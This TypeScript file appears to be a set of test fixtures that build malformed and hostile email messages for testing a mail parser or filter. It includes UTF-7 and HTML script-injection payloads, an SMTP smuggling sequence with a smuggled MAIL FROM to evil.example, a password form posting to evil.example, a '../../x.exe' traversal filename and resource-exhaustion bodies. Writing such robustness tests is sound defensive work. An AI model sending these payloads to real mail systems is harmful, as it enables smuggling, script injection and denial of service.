import {
  base64Lines,
  crlf,
  type HostileMail,
  headerOf,
  leaf,
  mailOf,
  multipart,
  seededBytes,
  times,
} from './hostile-mail-builder'

/** Bytes that say they are one thing and are another: charsets, transfer encodings, line ends, wrappers. */
const inCharset = (charset: string, bytes: Uint8Array, name = `charset ${charset}`): HostileMail => {
  return {
    name,
    ends: 'message',
    build: () => mailOf(name, { 'Content-Type': `text/plain; charset=${charset}` }, bytes),
  }
}

const inEncoding = (name: string, encoding: string, body: string, type = 'text/plain'): HostileMail => ({
  name,
  ends: 'message',
  build: () => mailOf(name, { 'Content-Type': type, 'Content-Transfer-Encoding': encoding }, body),
})

const withBody = (
  name: string,
  body: string | (() => string | Uint8Array),
  type = 'text/plain; charset=utf-8',
): HostileMail => ({
  name,
  ends: 'message',
  build: () => mailOf(name, { 'Content-Type': type }, typeof body === 'string' ? body : body()),
})

const charsets: HostileMail[] = [
  inCharset('utf-7', Buffer.from(`+ADw-script+AD4-alert(1)+ADw-/script+AD4-${crlf}`)),
  inCharset('no-such-charset-8', Buffer.from(`caf\xe9${crlf}`, 'latin1')),
  inCharset(
    'iso-2022-jp',
    Buffer.from(`\x1b$B$3$s\x1b(B \x1b$B${'\x1b(B\x1b$B'.repeat(2_000)}!!${crlf}`, 'latin1'),
  ),
  inCharset(
    'gb18030',
    Buffer.concat([Buffer.from([0x81, 0x30, 0x81, 0x30, 0xfe, 0x39, 0xff, 0x84]), Buffer.from(crlf)]),
  ),
  inCharset('utf-16', Buffer.concat([Buffer.from('utf-16 without a mark', 'utf16le'), Buffer.from(crlf)])),
  inCharset(
    'utf-8',
    Buffer.concat([
      Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xff]),
      Buffer.from(crlf),
    ]),
  ),
  inCharset('c'.repeat(5_000), Buffer.from(`x${crlf}`), 'charset of 5000 letters'),
  {
    name: 'several charsets in one text',
    ends: 'message',
    build: () =>
      mailOf(
        'several charsets in one text',
        { 'Content-Type': 'text/plain' },
        Buffer.concat([
          Buffer.from('é è '),
          Buffer.from('é è ', 'latin1'),
          seededBytes('mixed', 4_000),
          Buffer.from(crlf),
        ]),
      ),
  },
]

const transfers: HostileMail[] = [
  inEncoding('transfer encoding nobody knows', 'x-rot13', `grfg${crlf}`),
  inEncoding(
    'base64 in base64',
    'base64',
    base64Lines(Buffer.from(base64Lines(Buffer.from('twice')))) + crlf,
  ),
  inEncoding(
    'multipart in base64',
    'base64',
    base64Lines(Buffer.from(multipart('b0', [leaf('text/html', '<b>x</b>')]))) + crlf,
    'multipart/mixed; boundary=b0',
  ),
  inEncoding('base64 of nothing but junk', 'base64', `${'*&^%=='.repeat(5_000)}${crlf}`),
  inEncoding('quoted-printable with NUL', 'quoted-printable', `a=00b=0D=0A=00=1B[2J=XX=${crlf}`),
  inEncoding(
    'quoted-printable that never ends a line',
    'quoted-printable',
    `${`=${crlf}`.repeat(50_000)}${crlf}`,
  ),
  withBody(
    'uuencode in the text',
    `begin 644 ../../x.exe${crlf}${times(500, () => `M${'0'.repeat(60)}${crlf}`)}\`${crlf}end${crlf}`,
  ),
  withBody('yEnc in the text', () =>
    Buffer.concat([
      Buffer.from(`=ybegin line=128 size=20000 name=x.bin${crlf}`),
      Buffer.from(seededBytes('yenc', 20_000).map((byte) => (byte === 13 || byte === 10 ? 14 : byte))),
      Buffer.from(`${crlf}=yend size=20000${crlf}`),
    ]),
  ),
]

const lines: HostileMail[] = [
  withBody(
    'format flowed, quoted 5000 deep',
    times(500, (at) => `${'>'.repeat(5_000 - at)} x ${crlf}`),
    'text/plain; format=flowed; delsp=yes',
  ),
  withBody('bare carriage returns', `a\rb\r\rc\r.\rd${crlf}`),
  withBody(
    'bare line feeds and a dot',
    `a\nb\n.\nMAIL FROM:<smuggled@evil.example>\nRCPT TO:<x@y>\nDATA\n${crlf}`,
  ),
  withBody('NUL in the text', `a\u0000b\u0000${'\u0000'.repeat(10_000)}${crlf}`),
  withBody('one line of 1 MB', `${'w'.repeat(1024 * 1024)}${crlf}`),
  withBody('lines of dots', `.${crlf}..${crlf}...${crlf}.a${crlf}${`.${crlf}`.repeat(2_000)}`),
  {
    name: 'byte order mark in front',
    ends: 'message',
    build: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), mailOf('byte order mark in front')]),
  },
  {
    name: 'line feeds alone between the header lines',
    ends: 'message',
    build: () =>
      Buffer.from(
        `${headerOf('line feeds alone between the header lines')}\nx\n`.replaceAll(crlf, '\n') + crlf,
      ),
  },
  {
    name: 'carriage returns alone between the header lines',
    ends: 'message',
    build: () =>
      Buffer.from(
        `${headerOf('carriage returns alone between the header lines')}\rx\r`.replaceAll(crlf, '\r') + crlf,
      ),
  },
  { name: 'no mail but 1 MB of noise', ends: 'message', build: () => noise('noise', 1024 * 1024) },
  {
    name: 'no mail but 1 MB of line ends',
    ends: 'message',
    build: () => Buffer.from(crlf.repeat(512 * 1024)),
  },
  {
    name: 'no mail but colons',
    ends: 'message',
    build: () => Buffer.from(`${':'.repeat(100_000)}${crlf}${`:${crlf}`.repeat(50_000)}`),
  },
]

const wrappers: HostileMail[] = [
  {
    name: 'html that calls itself a picture',
    ends: 'message',
    build: () =>
      mailOf(
        'html that calls itself a picture',
        { 'Content-Type': 'multipart/mixed; boundary=b0' },
        multipart('b0', [
          leaf(
            'text/html; name="cat.jpg"',
            '<script>alert(1)</script>',
            `Content-Disposition: attachment; filename="cat.jpg"${crlf}`,
          ),
        ]),
      ),
  },
  withBody(
    'calendar of 10000 events',
    () =>
      `BEGIN:VCALENDAR${crlf}METHOD:REQUEST${crlf}${times(10_000, (at) => `BEGIN:VEVENT${crlf}UID:${at}${crlf}DTSTART:20261120T090000Z${crlf}RRULE:FREQ=SECONDLY${crlf}END:VEVENT${crlf}`)}END:VCALENDAR${crlf}`,
    'text/calendar; method=REQUEST',
  ),
  wrapped(
    'winmail.dat',
    'application/ms-tnef; name="winmail.dat"',
    Buffer.concat([Buffer.from([0x78, 0x9f, 0x3e, 0x22, 0xff, 0xff]), seededBytes('tnef', 5_000)]),
  ),
  wrapped(
    'S/MIME, enveloped',
    'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
    seededBytes('smime', 5_000),
  ),
  withBody(
    'PGP/MIME',
    multipart('b0', [
      leaf('application/pgp-encrypted', 'Version: 1'),
      leaf('application/octet-stream', `-----BEGIN PGP MESSAGE-----${crlf}x`),
    ]),
    'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b0',
  ),
  withBody(
    'AMP beside text',
    multipart('b0', [
      leaf('text/plain', 'plain'),
      leaf('text/x-amp-html', '<html amp4email><script src=x></script>'),
      leaf('text/html', '<p>html</p>'),
    ]),
    'multipart/alternative; boundary=b0',
  ),
  withBody(
    'alternatives that disagree',
    multipart('b0', [
      leaf('text/plain', 'all is safe'),
      leaf(
        'text/html',
        '<img src=x onerror=alert(1)><form action="https://evil.example"><input type=password></form>',
      ),
    ]),
    'multipart/alternative; boundary=b0',
  ),
  {
    name: 'report about 10000 recipients',
    ends: 'quarantine',
    build: () =>
      mailOf(
        'report about 10000 recipients',
        {
          From: 'mailer-daemon@evil.example',
          'Content-Type': 'multipart/report; report-type=delivery-status; boundary=b0',
        },
        multipart('b0', [
          leaf('text/plain', 'failed'),
          leaf(
            'message/delivery-status',
            `Reporting-MTA: dns; x${crlf}${crlf}${times(10_000, (at) => `Final-Recipient: rfc822; r${at}@evil.example${crlf}Action: failed${crlf}Status: 5.1.1${crlf}${crlf}`)}`,
          ),
        ]),
      ),
  },
]

function wrapped(name: string, type: string, bytes: Uint8Array): HostileMail {
  return {
    name,
    ends: 'message',
    build: () =>
      mailOf(
        name,
        { 'Content-Type': type, 'Content-Transfer-Encoding': 'base64', 'Content-Disposition': 'attachment' },
        base64Lines(bytes) + crlf,
      ),
  }
}

/** Without a final dot of its own. */
const noise = (seed: string, length: number): Buffer =>
  Buffer.concat([
    Buffer.from(seededBytes(seed, length).map((byte) => (byte === 46 ? 47 : byte))),
    Buffer.from(crlf),
  ])

export const encodingMails: HostileMail[] = [...charsets, ...transfers, ...lines, ...wrappers]
